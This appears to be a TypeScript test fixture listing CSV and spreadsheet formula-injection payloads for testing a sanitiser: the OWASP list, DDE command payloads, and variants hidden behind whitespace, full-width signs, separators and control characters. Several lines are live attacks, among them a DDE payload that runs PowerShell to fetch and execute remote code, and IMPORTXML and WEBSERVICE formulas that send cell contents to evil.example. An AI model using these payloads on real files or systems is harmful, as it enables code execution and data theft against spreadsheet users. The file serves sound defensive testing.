// Formula-injection payloads for the CSV and sheet tests: the OWASP list, and what an outside attack pass got
// through the old first-character check (issue 13, item 4).

/** OWASP CSV injection (https://owasp.org/www-community/attacks/CSV_Injection) plus the DDE classics. */
export const OWASP_PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example","点我")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/")',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=10+20+cmd|" /C calc"!A0',
];

/** Hidden in front of the sign, or a sign a spreadsheet reads like "=": the schema accepts these in long texts. */
export const HIDDEN_PAYLOADS = [
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '#N/A',
  '#DIV/0!',
];

/**
 * A formula behind a separator inside the text: harmless while the field stays one cell, live once an import splits
 * it (tab, semicolon, space or comma as separator, or a line break).
 */
export const SEPARATOR_PAYLOADS = ['abc\t=1+1', 'x;=1+1', 'y =1+1', 'z,=1+1', 'w\r=1+1', 'v\n=1+1', '甲 乙;@SUM(1+1)'];

/** Control characters the text-cleaning rule now refuses, so they can only exist in data stored before it. */
export const LEGACY_PAYLOADS = ['\v=1+1', '\f=1+1', '\0=1+1', '=1+\0 1', '\u0085=1+1', '\x1b=1+1'];
